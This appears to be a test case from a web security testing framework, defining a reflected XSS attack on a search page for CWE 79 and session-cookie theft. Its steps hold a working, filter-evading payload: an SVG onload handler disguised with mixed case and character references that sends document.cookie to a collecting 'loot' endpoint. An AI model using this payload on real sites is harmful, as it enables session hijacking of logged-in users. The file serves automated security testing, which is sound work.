import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { query } from '../../visitor/visitor.ts'

/** The same with an SVG handler, mixed case and character references. */
export const xssSearchSvg: Attack = defineAttack({
  id: 'xss-search-svg',
  class: 'xss',
  title: 'The same with an SVG handler, mixed case and character references',
  cwe: 79,
  capec: 591,
  technique: 'T1539',
  preconditions: ['somebody who is logged in follows a link'],

  steps: async ({ victim, sink }) => {
    const html = `<sVg/oNloAd=fetch&lpar;\`${sink.url('loot?c=')}\`+escape&#40;document[&#34;coo&#34;+&#34;kie&#34;]))>`
    await (await victim('anna')).open(`/search${query({ q: html })}`)
  },
  oracle: (_nothing, { sink }) => sink.hits().some((hit) => hit.path.includes('sid%3D')),
  twin: ({ visitor }) => visitor.get(`/search${query({ q: 'size M & load > 10 kg' })}`),
})
